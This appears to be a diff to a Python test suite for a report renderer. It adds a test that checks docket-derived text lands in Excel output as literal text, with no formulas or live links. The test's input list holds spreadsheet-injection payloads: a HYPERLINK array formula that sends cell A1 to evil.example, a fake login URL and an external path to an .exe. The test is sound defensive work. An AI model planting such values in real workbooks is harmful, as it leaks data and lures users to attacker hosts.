@@ -11,8 +11,10 @@ month      cases  defendant rows (members)              members new  frozen
 
 from __future__ import annotations
 
+import dataclasses
 import datetime as dt
 import io
+import zipfile
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -478,6 +480,24 @@ def test_xlsx_holds_the_same_numbers(feb: report.MonthlyBrief) -> None:
     assert {row[0] for row in list(english[sheet].iter_rows(values_only=True))[1:]} == {
         "City", "Sector", "Brand", "Law firm",
     }  # fmt: skip
+
+
+def test_xlsx_writes_formula_and_link_text_as_text(feb: report.MonthlyBrief) -> None:
+    """A brand or law firm from a docket is text in the workbook: xlsxwriter's defaults made
+    "{=...}" an array formula and a URL a live link (found in review), which neutralise() does not
+    catch (they start with neither = + - @)."""
+    hostile = ['{=HYPERLINK("http://evil.example/?"&A1,"click")}', "https://evil.example/login",
+               "external:\\\\host\\share\\x.exe", "mailto:a@evil.example", "1e5"]  # fmt: skip
+    movers = feb.movers.copy()
+    movers["code"] = [hostile[i % len(hostile)] for i in range(len(movers))]
+    data = report.render(dataclasses.replace(feb, movers=movers), "xlsx", "en")
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
+        assert not [n for n in archive.namelist() if "worksheets/_rels" in n]  # no hyperlink relationships
+    assert sheets and not [s for s in sheets if "<f" in s or "<hyperlink" in s]
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    codes = [row[1] for row in list(book.worksheets[3].iter_rows(values_only=True))[1:]]
+    assert codes == movers["code"].tolist()  # as text, "1e5" too
 
 
 def test_render_rejects_unknown_format(feb: report.MonthlyBrief) -> None:
